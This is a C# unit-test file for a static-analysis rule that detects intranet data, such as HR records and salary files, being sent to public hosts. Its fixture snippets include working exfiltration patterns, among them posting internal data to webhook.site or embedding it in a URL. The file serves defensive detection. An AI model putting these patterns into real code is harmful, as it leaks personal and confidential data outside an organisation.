using HygieneAnalyzers.Rules.Network;
using HygieneAnalyzers.Tests.Testing;
using Xunit;

namespace HygieneAnalyzers.Tests.Rules.Network;

public class IntranetDataLeavesTests
{
    [Fact]
    public Task Reports_a_response_that_is_posted() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync({|also:"https://hr.internal/people"|});
        await http.PostAsync({|also:"https://api.partner.com/v1"|}, [|new StringContent(people)|]);
        """)
        .Message("Data from 'hr.internal' in the intranet is sent to 'api.partner.com' in the public network; keep it inside, or let a declared gateway decide what may leave")
        .Reports();

    [Fact]
    public Task Reports_exfiltration_hosts() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync("https://10.1.2.3/people");
        await http.PostAsync("https://webhook.site/1", [|new StringContent(people)|]);
        """)
        .Message("Data from '10.1.2.3' in the intranet is sent to 'webhook.site' in the public network, where anybody can take data in; keep it inside, or let a declared gateway decide what may leave")
        .Reports();

    [Fact]
    public Task Reports_data_in_the_url_of_an_exfiltration_host() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync("https://10.1.2.3/people");
        await http.GetAsync([|$"https://webhook.site/1?d={people}"|]);
        """).Reports();

    [Fact]
    public Task Reports_through_streams_and_json() => Check<IntranetDataLeaves>.Code("""
        using System.Collections.Generic;
        using System.Linq;
        using System.Net.Http;
        using System.Net.Http.Json;
        using System.Threading.Tasks;
        class Job(HttpClient http)
        {
            record Person(string Name, string Phone);

            async Task Run()
            {
                var people = await http.GetFromJsonAsync<List<Person>>("https://hr.corp/people");
                var names = people!.Where(p => p.Phone != "").Select(p => p.Name).ToList();
                await http.PostAsJsonAsync("https://api.partner.com/v1", [|names|]);
                using var stream = await http.GetStreamAsync("https://hr.corp/photo");
                await http.PutAsync("https://api.partner.com/upload", [|new StreamContent(stream)|]);
            }
        }
        """).Reports();

    [Fact]
    public Task Reports_through_loops_and_builders() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var text = new StringBuilder();
        foreach (var line in File.ReadLines(@"\\fileserver.corp\hr\salaries.csv"))
        {
            text.AppendLine(line.Trim());
        }

        await http.PostAsync("https://api.partner.com/v1", [|new StringContent(text.ToString())|]);
        """).Reports();

    [Fact]
    public Task Reports_clients_that_are_set_up_elsewhere_in_the_type() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        using System.Threading.Tasks;
        class Job
        {
            private readonly HttpClient _inside = new() { BaseAddress = new("https://hr.internal/") };
            private readonly HttpClient _outside;

            public Job(HttpClient outside)
            {
                _outside = outside;
                _outside.BaseAddress = new("https://api.partner.com/");
            }

            async Task Run()
            {
                var people = await _inside.GetStringAsync("people");
                await _outside.PostAsync("v1", [|new StringContent(people)|]);
            }
        }
        """).Reports();

    [Fact]
    public Task Reports_requests() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetByteArrayAsync("https://hr.internal/people");
        var request = new HttpRequestMessage(HttpMethod.Post, "https://api.partner.com/v1") { Content = [|new ByteArrayContent(people)|] };
        await http.SendAsync(request);
        """).Reports();

    [Fact]
    public Task Reports_databases() => Check<IntranetDataLeaves>.Code("""
        using System.Net;
        using System.Data.SqlClient;
        class Job
        {
            void Run()
            {
                using (var connection = new SqlConnection("Server=sql01.corp;Database=hr;Integrated Security=true"))
                using (var command = new SqlCommand("select name from people", connection))
                using (var reader = command.ExecuteReader())
                using (var client = new WebClient())
                {
                    while (reader.Read())
                    {
                        client.UploadString("https://api.partner.com/v1", [|reader.GetString(0)|]);
                    }
                }
            }
        }
        """).On(Platform.Net48).Reports();

    [Fact]
    public Task Reports_mail() => Check<IntranetDataLeaves>.Statements("""
        var people = File.ReadAllText(@"\\fileserver.corp\hr\salaries.csv");
        var smtp = new System.Net.Mail.SmtpClient("smtp.partner.com");
        smtp.Send("a@a.example", "b@b.example", "people", [|people|]);
        """).Reports();

    [Fact]
    public Task Is_silent_on_unrelated_data() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync("https://hr.internal/people");
        Console.WriteLine(people);
        await http.PostAsync("https://api.partner.com/v1", new StringContent(input));
        """).Silent();

    [Fact]
    public Task Is_silent_on_the_way_in() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var rates = await http.GetStringAsync("https://api.partner.com/rates");
        await http.PostAsync("https://erp.internal/rates", new StringContent(rates));
        """).Silent();

    [Fact]
    public Task Is_silent_on_a_variable_that_was_overwritten() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var text = await http.GetStringAsync("https://hr.internal/people");
        Console.WriteLine(text);
        text = await http.GetStringAsync("https://api.partner.com/rates");
        await http.PostAsync("https://api.partner.com/v1", new StringContent(text));
        """).Silent();

    [Fact]
    public Task Is_silent_on_the_answer_of_a_public_host() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var id = await http.GetStringAsync("https://hr.internal/id");
        var rate = await http.GetStringAsync($"https://api.partner.com/rates/{id}");
        await http.PostAsync("https://api.other.com/v1", new StringContent(rate));
        """).Silent();

    [Theory]
    [InlineData("https://localhost/people", "https://api.partner.com/v1")]
    [InlineData("https://hr.internal/people", "https://erp.internal/v1")]
    [InlineData("https://hr.internal/people", "https://localhost:5000/v1")]
    [InlineData("https://hr.internal/people", "https://www.example.com/v1")]
    [InlineData("https://api.other.com/people", "https://api.partner.com/v1")]
    [InlineData("https://www.example.com/people", "https://api.partner.com/v1")]
    public Task Is_silent_on_other_pairs(string from, string to) => Check<IntranetDataLeaves>.Statements($$"""
        var http = new HttpClient();
        var people = await http.GetStringAsync("{{from}}");
        await http.PostAsync("{{to}}", new StringContent(people));
        """).Silent();

    [Fact]
    public Task Is_silent_on_lookups() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var currency = await http.GetStringAsync("https://erp.internal/currency");
        var rate = await http.GetStringAsync($"https://api.partner.com/rates/{currency}");
        """).Silent();

    [Fact]
    public Task Is_silent_on_a_local_file() => Check<IntranetDataLeaves>.Statements("""
        await new HttpClient().PostAsync("https://api.partner.com/v1", new StringContent(File.ReadAllText(@"C:\data\report.csv")));
        """).Silent();

    [Fact]
    public Task Is_silent_in_a_gateway() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        sealed class ZoneGatewayAttribute : System.Attribute { }
        [ZoneGateway]
        class Gateway(HttpClient http)
        {
            async System.Threading.Tasks.Task M() => await http.PostAsync(
                "https://api.partner.com/v1", new StringContent(await http.GetStringAsync("https://hr.internal/people")));
        }
        """).Silent();

    [Fact]
    public Task Is_silent_in_test_projects() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        await http.PostAsync("https://api.partner.com/v1", new StringContent(await http.GetStringAsync("https://hr.internal/people")));
        """).InTestProject().Silent();

    [Fact]
    public Task Is_silent_on_the_same_service_under_two_hosts() => Check<IntranetDataLeaves>.Statements("""
        var http = new HttpClient();
        var body = flag ? await http.GetStringAsync("https://hr.internal/people") : input;
        if (!flag) { await http.PostAsync("https://api.partner.com/v1", new StringContent(input)); }
        """).Silent();

    [Fact]
    public Task Misses_data_that_crosses_methods() => Check<IntranetDataLeaves>.Code("""
        using System.Net.Http;
        using System.Threading.Tasks;
        class Job(HttpClient http)
        {
            Task<string> People() => http.GetStringAsync("https://hr.internal/people");
            async Task Run() => await http.PostAsync("https://api.partner.com/v1", new StringContent(await People()));
        }
        """).Silent();
}
